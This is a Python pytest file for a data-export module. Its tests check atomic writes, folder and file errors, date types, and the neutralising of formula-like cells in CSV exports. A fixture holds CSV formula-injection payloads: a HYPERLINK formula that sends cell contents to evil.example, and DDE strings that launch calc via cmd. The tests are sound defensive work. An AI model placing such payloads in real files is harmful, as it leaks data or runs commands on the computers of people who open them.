"""Exports are written whole or not at all, and open safely in a spreadsheet."""
from __future__ import annotations

import csv
import datetime as dt

import pandas as pd
import pyarrow.parquet as pq
import pytest

import storyline.export.json_export as json_export
from storyline.errors import ExportError
from storyline.export import export
from storyline.model import Document, Event, Evidence
from storyline.store import Store


def test_a_failed_export_leaves_the_previous_file_and_no_partial_one(store, tmp_path, monkeypatch):
    out = tmp_path / "out.json"
    export(store, "json", out)
    good = out.read_text()

    def half_then_disk_full(data, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(json_export.json, "dumps", half_then_disk_full)
    with pytest.raises(ExportError, match="No space left on device"):
        export(store, "json", out)
    assert out.read_text() == good
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_an_export_to_a_folder_or_under_a_file_is_one_clear_error(store, tmp_path):
    with pytest.raises(ExportError, match="it is a folder"):
        export(store, "csv", tmp_path)
    (tmp_path / "a.json").write_text("{}")
    with pytest.raises(ExportError, match="a.json is a file, not a folder"):
        export(store, "csv", tmp_path / "a.json" / "events.csv")


@pytest.fixture()
def hostile_store(tmp_path):
    """One event whose report text and summary try to run formulas in a spreadsheet."""
    body = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") Chile and Peru met in Lima."
    with Store(tmp_path / "h.duckdb") as st:
        st.add_document(Document("d", body, title="+cmd|' /C calc'!A0", published="2022-01-05", content_hash="h"))
        ev = Event("e1", "CONSULT", ["CHL"], ["PER"], cameo="04", date="2022-01-03", date_start="2022-01-03",
                   date_end="2022-01-03", precision="day", summary="@SUM(1+1)*cmd|' /C calc'!A0",
                   evidence=[Evidence("d", 0, len(body), body)])
        st.save_corpus([], [], [ev], [])
    with Store(tmp_path / "h.duckdb", read_only=True) as st:
        yield st


@pytest.mark.parametrize("fmt", ["csv", "events"])
def test_csv_cells_that_look_like_formulas_are_neutralised(hostile_store, tmp_path, fmt):
    out = export(hostile_store, fmt, tmp_path / f"{fmt}.csv", all_events=True)
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_csv_cameo_reads_back_as_text(hostile_store, tmp_path):
    df = pd.read_csv(export(hostile_store, "csv", tmp_path / "e.csv", all_events=True))
    assert df["cameo"][0] == "04 Consult"  # the bare code "04" would come back as the number 4


def test_parquet_days_are_dates(hostile_store, tmp_path):
    table = pq.read_table(export(hostile_store, "parquet", tmp_path / "e.parquet", all_events=True))
    assert str(table.schema.field("date_start").type) == "date32[day]"
    assert table.to_pylist()[0]["date_start"] == dt.date(2022, 1, 3)
    assert table.to_pylist()[0]["date"] == "2022-01-03"  # a TIMEX value: text ("2022-W02" is one too)
    ev = pq.read_table(export(hostile_store, "events", tmp_path / "ev.parquet", all_events=True))
    assert str(ev.schema.field("doc_published").type) == "date32[day]"
